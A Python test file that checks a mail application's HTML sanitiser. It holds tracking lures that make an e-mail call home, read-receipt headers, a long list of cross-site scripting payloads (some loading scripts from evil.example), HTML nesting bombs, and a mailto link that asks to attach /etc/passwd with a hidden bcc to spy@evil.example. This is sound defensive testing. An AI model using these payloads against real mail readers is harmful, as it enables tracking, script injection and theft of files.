"""Mails that want to know whether they were read, cases 21 to 60 and 65 to 68 of the threats.

Thirty-nine ways by which an e-mail makes its reader call home, each in a mail of its own with four
targets: an address of a server that listens here, one without a scheme, a name that only a lookup
finds, and a picture on this disk. They go the whole way: read, judged, stored, made harmless by the
engine, drawn by the window. That happens in a process whose every system call is seen.
"""

from __future__ import annotations

import base64
import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from app.mail.safe_html import safe_html
from app.ui.issue.links import read_link
from app.ui.issue.mail_markup import small_markup
from tests.support.mails import a_mail, a_raw_mail
from tests.support.system_calls import Asked, watch

pytestmark = pytest.mark.timeout(300)

# By the number of the case: what it is called, and its HTML. Headers that are lures stand below.
VECTORS = {
    21: ("applet", '<applet code="{it}" codebase="{it}" archive="{it}"></applet>'),
    22: ("atom feed", '<link rel="alternate" type="application/atom+xml" href="{it}">'),
    23: ("audio", '<audio src="{it}" autoplay preload="auto"></audio>'),
    24: ("background of a table", '<table background="{it}"><tr><td background="{it}">x</table>'),
    25: ("background in a style", '<div style="background-image:url({it})">x</div>'),
    26: ("sound behind the page", '<bgsound src="{it}"><embed src="{it}" hidden>'),
    27: ("style sheet", '<link rel="stylesheet" type="text/css" href="{it}">'),
    28: ("attached style sheet", '<link rel="stylesheet" href="cid:css@x"><p>x</p>'),
    29: ("behaviour", '<div style="behavior:url({it});-moz-binding:url({it}#x)">x</div>'),
    30: ("content", "<style>p:before{{content:url({it})}}</style><p>x</p>"),
    31: ("import", "<style>@import url({it});@import '{it}';</style>x"),
    32: ("disposition notification", "<p>x</p>"),
    33: ("name of a link", '<a href="{it}">x</a>'),
    34: ("name to look up", '<link rel="dns-prefetch preconnect" href="{it}">'),
    35: ("prefetch", '<link rel="prefetch prerender preload" href="{it}" as="image">'),
    36: ("flash", '<object><param name="movie" value="{it}"><embed src="{it}"></object>'),
    37: ("typeface", "<style>@font-face{{font-family:a;src:url({it})}}p{{font:a}}</style><p>x"),
    38: ("frame", '<iframe src="{it}"></iframe><frameset><frame src="{it}"></frameset>'),
    39: ("refresh in a frame",
         '<iframe src="data:text/html,<meta http-equiv=refresh content=0;url={it}>"></iframe>'),
    40: ("picture in a frame", '<iframe srcdoc="<img src=\'{it}\'>"></iframe>'),
    41: ("picture", '<img src="{it}" width="40" height="40"><image src="{it}">'),
    42: ("picture of many sizes", '<img srcset="{it} 1x, {it} 2x"><picture><source srcset="{it}">'),
    43: ("button of a form", '<form action="{it}"><input type="image" src="{it}"></form>'),
    44: ("script", "<script src='{it}'></script><script>new Image().src='{it}'</script>"),
    45: ("script in a script", "<script>document.write('<script src={it}><\\/script>')</script>"),
    46: ("drawing as a background",
         "<div style=\"background:url('data:image/svg+xml,<svg><image href={it}/></svg>')\">x"),
    47: ("drawing", '<svg><image href="{it}" xlink:href="{it}"/><use href="{it}#a"/></svg>'),
    48: ("manifest", '<html manifest="{it}"><link rel="manifest" href="{it}">x</html>'),
    49: ("refresh", '<meta http-equiv="refresh" content="0;url={it}">'),
    50: ("object", '<object data="{it}" type="text/html"></object>'),
    51: ("search plug-in",
         '<link rel="search" type="application/opensearchdescription+xml" href="{it}">'),
    52: ("return receipt", "<p>x</p>"),
    53: ("news feed", '<link rel="alternate" type="application/rss+xml" href="{it}">'),
    54: ("film", '<video src="{it}" autoplay></video>'),
    55: ("poster of a film", '<video poster="{it}"></video>'),
    56: ("film of type mp4", '<video><source src="{it}" type="video/mp4"></video>'),
    57: ("film of type webm", '<video><source src="{it}" type="video/webm"></video>'),
    58: ("film of type ogg", '<video><source src="{it}" type="video/ogg"><track src="{it}">'),
    59: ("source of a page", '<iframe src="view-source:{it}"></iframe><img src="{it}">'),
    60: ("share of a strange computer",
         ('<img src="\\\\127.0.0.1\\{canary}"><img src="//127.0.0.1/{canary}"><img src="{it}">'
          '<a href="\\\\127.0.0.1\\{canary}">x</a><body background="\\\\127.0.0.1\\{canary}">')),
    66: ("base, form and refresh together",
         ('<base href="{it}/"><img src="x.png"><form action="{it}"><button formaction="{it}">'
          '</form><meta http-equiv="Refresh" content="0; URL={it}"><a href="//x" ping="{it}">')),
}  # fmt: skip
# Beyond the list: what newer programs let themselves be led astray by.
FURTHER = {
    "image-set": '<div style="background-image:image-set(url({it}) 1x);cursor:url({it}),auto">x',
    "list marks": '<ul style="list-style-image:url({it})"><li>x</li></ul>',
    "gravatar": '<link rel="icon" href="{it}"><link rel="apple-touch-icon" href="{it}">x',
    "old words": '<img dynsrc="{it}" lowsrc="{it}" longdesc="{it}"><layer src="{it}"></layer>',
    "mathematics": '<math><mtext><img src="{it}"></mtext></math><math href="{it}">x</math>',
    "conditional comment": '<!--[if gte mso 9]><v:fill src="{it}"/><![endif]-->x',
}
RECEIPTS = {
    "Disposition-Notification-To": "spy@watched.invalid",
    "Return-Receipt-To": "spy@watched.invalid",
    "X-Confirm-Reading-To": "spy@watched.invalid",
    "Read-Receipt-To": "spy@watched.invalid",
    "List-Unsubscribe": "<{url}>, <mailto:spy@watched.invalid>",
    "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
    "X-Face-URL": "{url}",
    "Face": "{url}",
    "BIMI-Location": "v=BIMI1; l={url}",
}
CANARY = "canary-of-privacy"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")  # fmt: skip  # noqa: E501


class Listening(ThreadingHTTPServer):
    """A web server that remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_HEAD = do_GET  # noqa: N815 - the base's words

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base's
                pass

        super().__init__(("127.0.0.1", 0), Handler)


def lures(case: str, port: int, picture: Path) -> list[str]:
    return [
        f"http://127.0.0.1:{port}/{case}",
        f"//127.0.0.1:{port}/{case}",
        f"http://case-{case}.watched.invalid/x.png",
        picture.as_uri(),
    ]


def bait(html: str, lure: str, number: int, case: str) -> bytes:
    """A mail with this lure; each of them asks for receipts, too."""
    body = html.format(it=lure, canary=CANARY)
    headers = {name: value.format(url=lure) for name, value in RECEIPTS.items()}
    mail = a_mail(
        "Hello, my mug is broken.",
        html=f"<html><body><p>Hello</p>{body}</body></html>",
        from_=f"Sam <sam{number}@{case}.example>",
        message_id=f"<{number}@{case}.example>",
        headers=headers,
    )
    return related(mail, lure) if "cid:css" in html else mail


def related(mail: bytes, lure: str) -> bytes:
    """The same with a style sheet inside it that leads out of it."""
    head, _, rest = mail.partition(b"\r\nContent-Type: ")
    return (
        head
        + b"\r\nContent-Type: multipart/related; boundary=rel\r\n\r\n--rel\r\nContent-Type: "
        + rest
        + b"\r\n--rel\r\nContent-Type: text/css\r\nContent-ID: <css@x>\r\n\r\np{background:url("
        + lure.encode()
        + b")}\r\n--rel--\r\n"
    )


def every_case(port: int, picture: Path) -> dict[str, list[str]]:
    """The mails by their case; of the control the lures instead, after one mail."""
    every = {**{f"{n:03d} {name}": html for n, (name, html) in VECTORS.items()}, **FURTHER}
    cases = {
        case: [
            coded(bait(html, lure, number, case.replace(" ", "-").replace(",", "")))
            for number, lure in enumerate(lures(case[:3], port, picture))
        ]
        for case, html in every.items()
    }
    _, _, host, file = lures("control", port, picture)
    plain = coded(a_mail("Hello", html="<p>x</p>"))
    return {"control": [plain, f"http://127.0.0.1:{port}/control", host[7:-6], file], **cases}


def coded(mail: bytes) -> str:
    return base64.b64encode(mail).decode()


def test_a_mail_asks_for_nothing_when_it_is_read(tmp_path: Path) -> None:
    """Cases 21 to 60, and 66: no request, no lookup, no file, no receipt.

    That the watch would see each of them is shown by doing it on purpose: that is the control.
    """
    picture = tmp_path / CANARY / "red.png"
    picture.parent.mkdir()
    picture.write_bytes(PNG)
    with Listening() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        port = server.server_port
        cases = every_case(port, picture)
        said, asked = watch(
            "tests.support.drawn_mail", str(tmp_path), said=json.dumps(cases),
            log=tmp_path / "calls.log", canary=CANARY, env={"LC_ALL": "C.UTF-8"},
        )  # fmt: skip
        server.shutdown()
    on_purpose = asked.pop("control")
    assert any(f"htons({port})" in line for line in on_purpose.network)
    assert any("/etc/hosts" in line or "htons(53)" in line for line in on_purpose.network)
    assert any("red.png" in line for line in on_purpose.files)
    assert {case: what for case, what in asked.items() if what != Asked()} == {}
    assert set(asked) == {*cases, "after"} - {"control"}
    assert {case: count for case, count in json.loads(said).items() if count} == {}
    assert server.asked == ["/control"]
    assert sorted(VECTORS)[:40] == list(range(21, 61))


# What has run scripts in somebody's reader: the well-known forms, and how they were disguised.
SCRIPTS = (
    "<script>evil()</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>evil()</scr</script>ipt>",
    "<<SCRIPT>evil();//\\<</SCRIPT>",
    "<script\x0b>evil()</script>",
    "<script/random='x' src=http://evil.example></script>",
    "<SCRIPT SRC=//evil.example/.j>",
    '<IMG SRC="javascript:evil();">',
    "<IMG SRC=javascript:evil()>",
    "<IMG SRC=JaVaScRiPt:evil()>",
    "<IMG SRC=`javascript:evil()`>",
    '<IMG """><SCRIPT>evil()</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"evil()\">",
    '<IMG SRC=/ onerror="evil()"></img>',
    "<img src=x onerror=&#101;vil()>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;evil()>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097:evil()>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:evil()>",
    '<IMG SRC="jav\tascript:evil();">',
    '<IMG SRC="jav&#x0A;ascript:evil();">',
    '<a href="java\0script:evil()">x</a>',
    '<a href=" &#14; javascript:evil()">x</a>',
    '<a href="\x01javascript:evil()">x</a>',
    "<SCRIPT/XSS SRC='http://evil.example/x.js'></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=evil()>",
    "<BODY ONLOAD=evil()>",
    '<BODY BACKGROUND="javascript:evil()">',
    '<INPUT TYPE="IMAGE" SRC="javascript:evil();">',
    '<IMG DYNSRC="javascript:evil()"><IMG LOWSRC="javascript:evil()">',
    "<STYLE>li {list-style-image: url(\"javascript:evil()\");}</STYLE><UL><LI>x",
    '<IMG SRC=\'vbscript:msgbox("evil")\'>',
    '<a href="livescript:[evil]">x</a><a href="mocha:evil()">x</a>',
    "<svg/onload=evil()>",
    '<svg><script>evil()</script></svg>',
    '<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg>',
    '<svg><animate onbegin=evil() attributeName=x dur=1s>',
    "<BGSOUND SRC=\"javascript:evil();\">",
    '<BR SIZE="&{evil()}">',
    '<LINK REL="stylesheet" HREF="javascript:evil();">',
    "<STYLE>@import'http://evil.example/x.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://evil.example/x.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://evil.example/x.xml#xss")}</STYLE>',
    '<IMG STYLE="xss:expr/*XSS*/ession(evil())">',
    '<DIV STYLE="width: expression(evil());">x</DIV>',
    '<DIV STYLE="background-image: url(javascript:evil())">x</DIV>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:evil();">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:evil();">',
    '<IFRAME SRC="javascript:evil();"></IFRAME>',
    '<IFRAME SRC=# onmouseover="evil()"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:evil();"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:evil()"><TD BACKGROUND="javascript:evil()">x',
    '<!--[if gte IE 4]><SCRIPT>evil();</SCRIPT><![endif]-->',
    '<BASE HREF="javascript:evil();//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmV2aWwoKTwvc2NyaXB0Pjwvc3ZnPg==">',
    '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:evil();">]]></C></X></XML>',
    "<HTML><BODY><?xml:namespace prefix='t' ns='urn:x'><t:set onbegin='evil()'></BODY></HTML>",
    '<? echo("<SCR)"; echo("IPT>evil()</SCRIPT>"); ?>',
    '<a href="http://x.example" onclick="evil()" onfocus=evil() autofocus tabindex=1>x</a>',
    "<details open ontoggle=evil()><summary>x</summary></details>",
    "<marquee onstart=evil()>x</marquee>",
    "<video><source onerror=evil()></video><audio src onloadstart=evil()></audio>",
    '<form><button formaction=javascript:evil()>x</button><isindex action=javascript:evil()>',
    "<math><mi//xlink:href=\"data:x,<script>evil()</script>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
    "<textarea></textarea><img src=x onerror=evil()>",
    "<title></title><xmp><img title=\"</xmp><img src=x onerror=evil()>\"></xmp>",
    '<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">x</a>',
    '<object data="data:text/html,<script>evil()</script>"></object>',
    '<p style="font-family:\'<img src=x onerror=evil()>\'">x</p>',
    '<template><script>evil()</script></template><slot onslotchange=evil()>x</slot>',
)  # fmt: skip
_TAG = re.compile(r"<([a-z][a-z0-9]*)((?:\s[^<>]*)?)>", re.IGNORECASE)
_ATTRIBUTE = re.compile(r"""\s([^\s=>"']+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]*)""")


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda script: script[:32])
def test_case_067_no_script_survives_the_engine_or_the_window(script: str) -> None:
    """And a second cleaning finds nothing that the first one left: what is clean stays as it is."""
    html = f"<div><p>before</p>{script}</div>"
    engine = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=html))
    window = small_markup(engine).html
    for clean in (engine, window, small_markup(html).html):
        assert "before" in clean
        for tag, rest in _TAG.findall(clean):
            assert tag.lower() not in {
                "script",
                "style",
                "svg",
                "math",
                "iframe",
                "object",
                "embed",
            }
            for name, value in _ATTRIBUTE.findall(rest):
                assert not name.lower().startswith("on"), (tag, name)
                assert name.lower() not in {"style", "srcset", "background", "formaction", "action"}
                scheme = value.strip("\"' ").partition(":")[0].lower()
                assert name.lower() not in {"href", "src"} or scheme in {"http", "https", "mailto"}
    again = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=engine))
    assert (again, small_markup(window).html) == (engine, window)


@pytest.mark.parametrize(
    "bomb",
    ["<div>" * 200_000 + "x", "<table><tr>" + "<td>x" * 1_000_000 + "</table>",
     "<table>" + "<tr><td>x</td></tr>" * 250_000 + "</table>"],
    ids=["200,000 nested parts", "a row of a million cells", "a quarter of a million rows"],
)  # fmt: skip
def test_case_068_what_is_nested_or_wide_without_end_is_cut_in_seconds(bomb: str) -> None:
    """From the mail to what the window would draw, in processor time."""
    begun = time.process_time()
    html = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=bomb))
    markup = small_markup(html)
    assert time.process_time() - begun < 10
    assert len(markup.html) < 2_000_000


def test_case_065_a_mailto_in_a_mail_brings_no_file_and_no_hidden_recipient() -> None:
    """The whole way: what the mail says, what is left of it, what a click would open."""
    html = '<a href="mailto:a@b.example?attach=/etc/passwd&amp;bcc=spy@evil.example">write</a>'
    left = small_markup(safe_html(a_raw_mail("Content-Type: text/html", body=html))).html
    found = re.search(r'href="([^"]*)"', left)
    assert found is not None
    assert read_link(found[1].replace("&amp;", "&")).target == "mailto:a@b.example"
